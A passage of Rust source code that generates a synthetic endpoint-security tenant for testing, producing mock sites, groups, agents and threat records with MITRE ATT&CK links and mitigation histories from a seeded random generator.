                "agentDecommissionedAt": decommissioned_at,
                "agentDomain": a("domain"),
                "agentId": a("id"),
                "agentInfected": a("infected"),
                "agentIsActive": a("isActive"),
                "agentIsDecommissioned": crate::records::lenient_bool(agent.get("isDecommissioned")),
                "agentMachineType": a("machineType"),
                "agentMitigationMode": a("mitigationMode"),
                "agentNetworkStatus": a("networkStatus"),
                "agentOsName": a("osName"),
                "agentOsRevision": a("osRevision"),
                "agentOsType": a("osType"),
                "agentUuid": a("uuid"),
                "agentVersion": a("agentVersion"),
                "groupId": a("groupId"),
                "groupName": a("groupName"),
                "networkInterfaces": nics,
                "operationalState": a("operationalState"),
                "rebootRequired": false,
                "scanAbortedAt": a("scanAbortedAt"),
                "scanFinishedAt": a("scanFinishedAt"),
                "scanStartedAt": a("scanStartedAt"),
                "scanStatus": a("scanStatus"),
                "siteId": a("siteId"),
                "siteName": a("siteName"),
                "storageName": null,
                "storageType": null,
                "userActionsNeeded": a("userActionsNeeded"),
            },
            "containerInfo": {"id": null, "image": null, "labels": null, "name": null},
            "id": id,
            "indicators": indicators,
            "kubernetesInfo": {
                "cluster": null, "controllerKind": null, "controllerLabels": null, "controllerName": null,
                "namespace": null, "namespaceLabels": null, "node": null, "pod": null, "podLabels": null
            },
            "mitigationStatus": mitigations,
            "threatInfo": {
                "analystVerdict": verdict,
                "analystVerdictDescription": describe(verdict),
                "automaticallyResolved": incident == "resolved" && self.rng.chance(30),
                "browserType": null,
                "certificateId": if signed { "SIGNER-CN=Some Vendor Ltd" } else { "" },
                "classification": classification,
                "classificationSource": if dynamic { "Behavioral" } else { *self.rng.pick(&["Cloud", "Static", "Engine"]) },
                "cloudFilesHashVerdict": if verdict == "false_positive" { "provider_unknown" } else { "black" },
                "collectionId": self.next_id(),
                "confidenceLevel": confidence,
                "createdAt": fmt_micros(created),
                "detectionEngines": engines.iter().map(|(k, t)| json!({"key": k, "title": t})).collect::<Vec<_>>(),
                "detectionType": if dynamic { "dynamic" } else { "static" },
                "engines": engines.iter().map(|(_, t)| *t).collect::<Vec<_>>(),
                "externalTicketExists": false,
                "externalTicketId": null,
                "failedActions": self.rng.permille(15),
                "fileExtension": ext,
                "fileExtensionType": ext_type,
                "filePath": path,
                "fileSize": 1024 + self.rng.below(8_000_000),
                "fileVerificationType": if signed { "SignedVerified" } else { "NotSigned" },
                "identifiedAt": fmt_micros(identified),
                "incidentStatus": incident,
                "incidentStatusDescription": describe(incident),
                "initiatedBy": initiated,
                "initiatedByDescription": initiated_desc,
                "initiatingUserId": null,
                "initiatingUsername": null,
                "isFileless": dynamic && ext == "PS1" && self.rng.chance(30),
                "isValidCertificate": signed,
                "maliciousProcessArguments": args,
                "md5": md5,
                "mitigatedPreemptively": mitigation == "mitigated" && self.rng.chance(20),
                "mitigationStatus": mitigation,
                "mitigationStatusDescription": describe(mitigation),
                "originatorProcess": originator,
                "pendingActions": false,
                "processUser": process_user,
                "publisherName": if signed { "Some Vendor Ltd" } else { "" },
                "reachedEventsLimit": false,
                "rebootRequired": false,
                "sha1": self.rng.hex(40),
                "sha256": sha256,
                "storyline": self.rng.hex(16).to_uppercase(),
                "threatId": id,
                "threatName": file,
                "updatedAt": fmt_micros(updated),
            },
            "whiteningOptions": whitening,
        })
    }

    fn indicators(&mut self) -> Vec<Value> {
        let n = 1 + self.rng.below(4) as usize;
        (0..n)
            .map(|_| {
                let (category, description, ind_id) = *self.rng.pick(INDICATORS);
                let tactic_count = self.rng.below(3) as usize;
                let tactics: Vec<Value> = (0..tactic_count)
                    .map(|_| {
                        let (name, techniques) = *self.rng.pick(TACTICS);
                        let tech_count = 1 + self.rng.below(2) as usize;
                        let techs: Vec<Value> = (0..tech_count)
                            .map(|_| {
                                let t = *self.rng.pick(techniques);
                                json!({
                                    "link": format!("https://attack.mitre.org/techniques/{}/", t.replace('.', "/")),
                                    "name": t,
                                })
                            })
                            .collect();
                        json!({"name": name, "source": "MITRE", "techniques": techs})
                    })
                    .collect();
                json!({"category": category, "description": description, "ids": [ind_id], "tactics": tactics})
            })
            .collect()
    }

    fn mitigation_actions(&mut self, mitigation: &str, created: Micros) -> Vec<Value> {
        let actions: &[&str] = match mitigation {
            "mitigated" => &["kill", "quarantine"],
            "marked_as_benign" => &["unquarantine"],
            _ if self.rng.chance(40) => &["kill"],
            _ => &[],
        };
        let mut at = created + self.rng.range(100_000, 60_000_000);
        actions
            .iter()
            .map(|action| {
                let started = at;
                let ended = started + self.rng.range(1, 500_000);
                at = ended + self.rng.range(1_000, 10_000_000);
                let counters = if self.rng.chance(50) {
                    json!({"failed": 0, "notFound": 0, "pendingReboot": 0, "success": 1, "total": 1})
                } else {
                    Value::Null
                };
                json!({
                    "action": action,
                    "actionsCounters": counters,
                    "agentSupportsReport": true,
                    "groupNotFound": false,
                    "lastUpdate": fmt_micros(ended + 100),
                    "latestReport": if counters.is_null() { Value::Null } else { json!("/threats/mitigation-report") },
                    "mitigationEndedAt": fmt_micros(ended),
                    "mitigationStartedAt": fmt_micros(started),
                    "status": "success",
                })
            })
            .collect()
    }

    fn group(
        &mut self,
        site: usize,
        ordinal: usize,
        name: &str,
        created: Micros,
    ) -> (GroupInfo, Value) {
        let id = self.next_id();
        let is_default = ordinal == 0;
        let kind = if is_default {
            "static"
        } else {
            *self
                .rng
                .weighted(&[("static", 80), ("dynamic", 15), ("pinned", 5)])
        };
        let dynamic = kind == "dynamic";
        let filter_id = if dynamic {
            json!(self.next_id())
        } else {
            Value::Null
        };
        let who = self.rng.below(PEOPLE.len() as u64) as usize;
        let token_body = format!(
            "{{\"url\":\"https://acme.sentinelone.net\",\"site_key\":\"{}\"}}",
            self.rng.hex(16)
        );
        let value = json!({
            "createdAt": fmt_micros(created),
            "creator": PEOPLE[who],
            "creatorId": format!("{}", 900_000_000_000_000_000u64 + who as u64 * 1_000_003),
            "filterId": filter_id,
            "filterName": if dynamic { json!(format!("{name} filter")) } else { Value::Null },
            "id": id,
            "inherits": is_default || self.rng.chance(70),
            "isDefault": is_default,
            "name": name,
            "rank": if dynamic { json!(1 + self.rng.below(10)) } else { Value::Null },
            "registrationToken": base64_std(token_body.as_bytes()),
            "siteId": self.sites[site].id,
            "totalAgents": 0,
            "type": kind,
            "updatedAt": fmt_micros(created + self.rng.range(500_000, 30 * DAY_US)),
        });
        (
            GroupInfo {
                id: value["id"].as_str().unwrap_or_default().to_owned(),
                name: name.to_owned(),
                site,
                ordinal,
            },
            value,
        )
    }
}

fn base64_std(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// Builds the whole tenant for `spec`.
pub(crate) fn generate(spec: &TenantSpec) -> Generated {
    let end = datetime_to_micros(spec.history_end);
    let start = end - 3 * 365 * DAY_US;
    let mut g = Generator {
        rng: SeededRng::new(spec.seed),
        last_id: 650_000_000_000_000_000 + (spec.seed % 1000) * 100_000_000_000_000,
        name_counters: HashMap::new(),
        sites: Vec::new(),
        groups: Vec::new(),
        spec: spec.clone(),
    };
    let sites = spec.sites.max(1);
    let accounts: Vec<(String, String)> = (0..sites.div_ceil(4))
        .map(|i| {
            let name = ACCOUNT_NAMES
                .get(i)
                .map_or_else(|| format!("Account {}", i + 1), |s| (*s).to_owned());
            (g.next_id(), name)
        })
        .collect();
    for i in 0..sites {
        let (account_id, account_name) = accounts[i / 4].clone();
        let name = SITE_NAMES
            .get(i)
            .map_or_else(|| format!("Site {}", i + 1), |s| (*s).to_owned());
        let id = g.next_id();
        g.sites.push(Site {
            id,
            name,
            account_id,
            account_name,
            ordinal: i,
            egress_prefix: EGRESS_PREFIXES[i % EGRESS_PREFIXES.len()].to_owned(),
        });
    }
    let mut groups = Vec::new();
    for site in 0..sites {
        for ordinal in 0..spec.groups_per_site.max(1) {
            let name = if ordinal == 0 {
                "Default Group".to_owned()
            } else {
                GROUP_NAMES
                    .get(ordinal - 1)
                    .map_or_else(|| format!("Group {ordinal}"), |s| (*s).to_owned())
            };
            let created = start + g.rng.range(0, 30 * DAY_US);
            let (info, value) = g.group(site, ordinal, &name, created);
            g.groups.push(info);
            groups.push(value);
        }
    }

    let mut agents: Vec<Value> = Vec::with_capacity(spec.agents);
    let mut names: Vec<String> = Vec::with_capacity(spec.agents);
    for _ in 0..spec.agents {
        let created = g.rng.range(start + 30 * DAY_US, end - DAY_US);
        let updated = g.rng.range(created, end);
        let reuse = if !names.is_empty() && g.rng.permille(spec.duplicate_name_permille) {
            Some(names[g.rng.below(names.len() as u64) as usize].clone())
        } else {
            None
        };
        let agent = g.agent(created, updated, reuse);
        names.push(
            agent["computerName"]
                .as_str()
                .unwrap_or_default()
                .to_owned(),
        );
        agents.push(agent);
    }

    // Agents that existed when their threats fired but have since been removed from the console.
    let orphan_threats = if spec.agents == 0 {
        0
    } else {
        spec.threats * spec.orphan_threat_permille as usize / 1000
    };
    let ghosts: Vec<Value> = (0..orphan_threats.div_ceil(5).min(spec.agents.max(1)))
        .map(|_| {
            let created = g.rng.range(start + 30 * DAY_US, end - 30 * DAY_US);
            g.agent(created, created + DAY_US, None)
        })
        .collect();

    let mut threats = Vec::with_capacity(spec.threats);
    let mut threat_agent: Vec<Option<usize>> = Vec::with_capacity(spec.threats);
    if !agents.is_empty() {
        for i in 0..spec.threats {
            let (agent, idx) = if i < orphan_threats && !ghosts.is_empty() {
                (&ghosts[i % ghosts.len()], None)
            } else {
                // Skewed: a few machines collect many threats, as in real fleets.
                let r = g.rng.below(1 << 20) as f64 / f64::from(1 << 20);
                let idx = ((r * r) * agents.len() as f64) as usize % agents.len();
                (&agents[idx], Some(idx))
            };
            let agent_created =
                crate::util::parse_timestamp(agent["createdAt"].as_str().unwrap_or_default())
                    .unwrap_or(start);
            let created = g.rng.range(agent_created, end - HOUR_US);
            let updated = (created + g.rng.range(1_000, 30 * DAY_US)).min(end);
            threats.push(g.threat(agent, created, updated));
            threat_agent.push(idx);
        }
    }

    // Now that every threat exists, give each agent its activeThreats/infected and copy them into
    // the threats' agentRealtimeInfo so both views agree.
    let mut active = vec![0u64; agents.len()];
    for (t, idx) in threats.iter().zip(&threat_agent) {
        if let Some(i) = idx {
            if t["threatInfo"]["incidentStatus"] != "resolved" {
                active[*i] += 1;
            }
        }
    }
    for (agent, n) in agents.iter_mut().zip(&active) {
        agent["activeThreats"] = json!(n);
        agent["infected"] = json!(*n > 0);
    }
    for (t, idx) in threats.iter_mut().zip(&threat_agent) {
        if let Some(i) = idx {
            t["agentRealtimeInfo"]["activeThreats"] = json!(active[*i]);
            t["agentRealtimeInfo"]["agentInfected"] = json!(active[*i] > 0);
        }
    }

    let mut per_group: HashMap<String, u64> = HashMap::new();
    for a in &agents {
        if let Some(gid) = a["groupId"].as_str() {
            *per_group.entry(gid.to_owned()).or_default() += 1;
        }
    }
    for grp in &mut groups {
        let n = grp["id"]
            .as_str()
            .and_then(|id| per_group.get(id))
            .copied()
            .unwrap_or(0);
        grp["totalAgents"] = json!(n);
    }

    Generated {
        groups,
        agents,
        threats,
        generator: g,
    }
}
